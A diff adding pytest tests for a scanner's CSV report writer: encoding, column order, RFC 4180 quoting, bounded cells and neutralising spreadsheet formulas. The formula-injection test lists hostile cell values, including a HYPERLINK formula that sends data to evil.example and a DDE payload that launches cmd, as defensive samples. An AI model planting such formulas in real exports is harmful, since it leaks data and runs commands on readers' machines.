@@ -1,0 +1,123 @@
+"""report.csv opens right in a spreadsheet and cannot run formulas planted by a server."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+
+import pytest
+
+from reports.csv_report import FIELDNAMES, CsvReporter, neutralise
+from scanner.records import Evidence, RunResults, Verdict
+
+from .samples import affected, meta, mixed_run, simple
+
+
+def _read(path) -> list[dict[str, str]]:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf"), "BOM missing: Excel would guess the wrong encoding"
+    text = raw[3:].decode("utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _write(tmp_path, results: RunResults):
+    path = tmp_path / "report.csv"
+    CsvReporter().write(results, path)
+    return path
+
+
+def test_columns_and_one_row_per_host_needing_action_first(tmp_path):
+    """The header has the documented columns and hosts needing action come first."""
+    path = _write(tmp_path, mixed_run())
+    rows = _read(path)
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        assert tuple(next(csv.reader(fh))) == FIELDNAMES
+    assert FIELDNAMES[:9] == ("host", "address", "port", "scheme", "site_code", "site_type", "build",
+                              "build_name", "verdict")
+    assert len(rows) == len(mixed_run().hosts)
+    assert [r["verdict"] for r in rows][:4] == ["AFFECTED", "AFFECTED", "AT_RISK", "ERROR"]
+    assert [r["host"] for r in rows[:2]] == ["SMS-A01", "sms-a02"]  # case-insensitive name order
+    assert rows[-1]["verdict"] == "NOT_APPLICABLE"
+
+
+def test_row_carries_the_failure_evidence_and_window(tmp_path):
+    """An AFFECTED row shows the failing log line with its file, line number and time."""
+    rows = _read(_write(tmp_path, mixed_run()))
+    row = next(r for r in rows if r["host"] == "SMS-A01")
+    assert row["evidence_line"] == "1207"
+    assert row["evidence_time"] == "2026-11-20T02:13:12.004Z"
+    assert row["evidence_text"].startswith("Error 0x80004005")
+    assert row["evidence_file"].endswith("wsyncmgr.log")
+    assert row["evidence_count"] == "3"
+    assert row["log_window_first"] == "2026-11-01T00:00:00Z"
+    assert row["reason"].count("; ") == 1
+    assert row["needs_action"] == "yes"
+    err = next(r for r in rows if r["verdict"] == "ERROR")
+    assert (err["error_category"], err["error_message"]) == ("timeout", "no answer within 60 s")
+    assert err["scanned_at_utc"] == "2026-11-25T01:01:05Z"
+
+
+def test_file_uses_crlf_and_quotes_commas_quotes_and_newlines(tmp_path):
+    """Cells with commas, double quotes and line breaks survive an RFC 4180 round trip."""
+    nasty = 'a, "quoted" value\nsecond line\r\nthird'
+    host = affected("sms01", text=nasty)
+    path = _write(tmp_path, RunResults(meta=meta(), hosts=(host,)))
+    raw = path.read_bytes()
+    assert raw.count(b"\r\n") >= 2 and b'"a, ""quoted"" value' in raw
+    (row,) = _read(path)
+    assert row["evidence_text"] == nasty
+
+
+@pytest.mark.parametrize("cell", [
+    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"click")', id="hyperlink"),
+    pytest.param("+1", id="plus"),
+    pytest.param("-2", id="minus-number-text"),
+    pytest.param("@SUM(A1:A9)", id="at-sum"),
+    pytest.param("\tx", id="tab"),
+    pytest.param("\rx", id="cr"),
+    pytest.param("=cmd|' /C calc'!A0", id="dde"),
+    pytest.param("  =1+1", id="leading-spaces"),
+    pytest.param("\uff1d1+1", id="fullwidth-equals"),
+])
+def test_formula_cells_from_a_server_are_neutralised(tmp_path, cell):
+    """A server-supplied cell that a spreadsheet would run as a formula is written as text."""
+    host = dataclasses.replace(affected(cell, text=cell), reasons=(cell,), site_code=cell,
+                               evidence=(Evidence(cell, 3, None, cell, "failure"),))
+    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
+    for column in ("host", "reason", "evidence_file", "evidence_text"):
+        assert row[column] == "'" + cell, column
+
+
+@pytest.mark.parametrize("cell", [
+    pytest.param("sms01", id="name"),
+    pytest.param("10.0.0.1", id="address"),
+    pytest.param("a-b=c", id="inner-signs"),
+    pytest.param("", id="empty"),
+])
+def test_ordinary_cells_are_not_altered(cell):
+    """Only cells a spreadsheet would evaluate get the quote prefix."""
+    assert neutralise(cell) == cell
+
+
+def test_numbers_we_write_are_not_quoted(tmp_path):
+    """Port and line numbers stay numbers, so the admin can sort by them."""
+    rows = _read(_write(tmp_path, mixed_run()))
+    assert {r["port"] for r in rows} == {"5985", "5986"}
+    assert next(r for r in rows if r["host"] == "SMS-A01")["evidence_line"] == "1207"
+
+
+def test_control_characters_and_huge_lines_are_tamed(tmp_path):
+    """A NUL-padded or megabyte-long log line gives a bounded, readable cell."""
+    host = affected("sms01", text="crash\x00\x00 tail " + "x" * 100_000)
+    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
+    assert "\x00" not in row["evidence_text"]
+    assert len(row["evidence_text"]) < 2100
+
+
+def test_host_without_evidence_or_error_has_empty_cells(tmp_path):
+    """Missing facts are empty cells, not 'None'."""
+    host = simple("sms01", Verdict.UNKNOWN, "")
+    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
+    assert row["evidence_file"] == row["evidence_line"] == row["error_category"] == ""
+    assert "None" not in row.values()
